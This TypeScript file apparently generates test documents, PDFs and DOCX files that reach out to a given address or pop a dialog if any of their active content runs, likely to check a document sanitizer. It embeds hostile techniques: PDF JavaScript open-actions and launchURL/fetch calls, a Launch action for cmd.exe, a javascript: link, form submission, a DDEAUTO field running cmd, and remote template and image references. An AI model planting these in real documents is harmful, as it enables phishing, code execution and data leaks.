import { docx } from '../shop/consultation-payload';
import { relationship } from './active-files';
import { written } from './honest-pdfs';

type Dictionary = { data: Record<string, unknown> };
const dictionaryOf = (reference: unknown) => (reference as Dictionary).data;
const withRoot = (document: PDFKit.PDFDocument) =>
  document as unknown as { _root: Dictionary; page: { dictionary: Dictionary } };

/** Files that would call this address, or show a dialog, if something of them ran. */
export async function livingFiles(address: string): Promise<[name: string, content: Buffer][]> {
  const run = { S: 'JavaScript', JS: new String(`app.alert(1); app.launchURL('${address}'); fetch('${address}')`) };
  const submit = { S: 'SubmitForm', F: { FS: 'URL', F: new String(address) } };
  const scripted = (document: PDFKit.PDFDocument) => {
    const { _root: root, page } = withRoot(document);
    document.text('Con vida');
    root.data.OpenAction = run;
    root.data.AA = { WC: run, DP: submit };
    dictionaryOf(root.data.Names).JavaScript = { Names: [new String('a'), run] };
    page.dictionary.data.AA = { O: run, C: submit };
    document.font('Helvetica').initForm();
    dictionaryOf(root.data.AcroForm).XFA = new String(`<xdp><template><script>${address}</script></template></xdp>`);
  };
  const annotated = (document: PDFKit.PDFDocument) => {
    document.text('Con anejos');
    const kinds = [
      { Subtype: 'Link', A: { S: 'Launch', F: new String('cmd.exe') } },
      { Subtype: 'Link', A: { S: 'URI', URI: new String('javascript:alert(1)') } },
      { Subtype: 'Link', A: run },
      { Subtype: 'Widget', FT: 'Btn', T: new String('b'), A: submit, AA: { E: run, U: submit } },
      { Subtype: 'RichMedia', RichMediaContent: {} },
      { Subtype: '3D', '3DD': {} },
      { Subtype: 'Movie', Movie: { F: new String(address) }, A: true },
      { Subtype: 'Screen', A: { S: 'Rendition', OP: 0 }, AA: { PV: run } },
    ];
    for (const [row, kind] of kinds.entries()) document.annotate(60, 100 + row * 40, 200, 30, kind as never);
  };
  const field = `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:instrText>DDEAUTO cmd "/k ${address}"</w:instrText></w:r><w:r><w:t>Con campos</w:t></w:r></w:p></w:body></w:document>`;
  return [
    ['guion.pdf', await written(scripted)],
    ['guion-cifrado.pdf', await written(scripted, { ownerPassword: 'otra' })],
    ['anejos.pdf', await written(annotated)],
    ['campos.docx', docx({ 'word/document.xml': field, 'word/embeddings/libro.xlsm': 'vbaProject.bin' })],
    ['imagen.docx', relationship('image', address)],
    ['plantilla.docx', relationship('attachedTemplate', address)],
  ];
}
